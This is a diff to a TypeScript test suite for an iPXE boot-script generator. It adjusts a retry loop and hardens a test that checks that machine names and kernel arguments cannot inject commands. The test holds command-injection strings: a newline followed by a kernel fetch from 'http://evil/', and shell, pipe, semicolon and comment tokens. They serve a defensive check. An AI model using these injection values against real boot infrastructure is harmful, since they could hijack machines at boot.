@@ -18,7 +18,8 @@ function aMachine(changes: Partial<RegisteredMachine> = {}): RegisteredMachine {
 }
 
 describe('the iPXE script of a machine', () => {
-  it('that is armed starts its boot image, and asks again where it cannot', () => {
+  it('that is armed starts its boot image, and asks again for five minutes where it cannot', () => {
+    const asked = `sleep 10\nchain --replace ${HTTP}/ipxe/bios/52-54-00-78-00-01 ||\n`;
     expect(scriptFor(aMachine())).toBe(`#!ipxe
 echo Swarmboot: deployment: m001 is armed
 imgfree
@@ -26,11 +27,9 @@ kernel ${HTTP}/boot/vmlinuz initrd=initrd0 quiet swarmboot.token=abc || goto fai
 initrd --name initrd0 ${HTTP}/boot/initrd.img || goto failed
 boot || goto failed
 :failed
-echo Swarmboot: the boot image cannot be fetched or started; once more in 10 seconds
+echo Swarmboot: the boot image cannot be fetched or started: asking again every 10 s for 300 s
 imgfree
-sleep 10
-chain --replace ${HTTP}/ipxe/bios/52-54-00-78-00-01 ||
-exit
+${asked.repeat(30)}exit
 `);
   });
 
@@ -49,11 +48,11 @@ exit
 
   it('holds no command but ours, whatever people call their machines', () => {
     // biome-ignore lint/suspicious/noTemplateCurlyInString: iPXE's own
-    const name = 'm1\nkernel http://evil/ || ${net0/ip} && shell';
+    const name = 'm1\nkernel http://evil/ || ${net0/ip} && shell ; shell #';
     const script = scriptFor(aMachine({ name, isArmed: false }));
     expect(script.split('\n')).toHaveLength(4);
-    expect(script).not.toMatch(/[$|&]/);
-    const armed = scriptFor(aMachine({ arguments: ['a\nshell', '||', 'b c', 'fine=1'] }));
+    expect(script).not.toMatch(/[$|&;]|(?<!^)#/);
+    const armed = scriptFor(aMachine({ arguments: ['a\nshell', '||', ';', '#', 'b c', 'fine=1'] }));
     expect(armed).toMatch(/initrd=initrd0 quiet fine=1 \|\| goto failed/);
     expect(armed).not.toMatch(/shell/);
   });
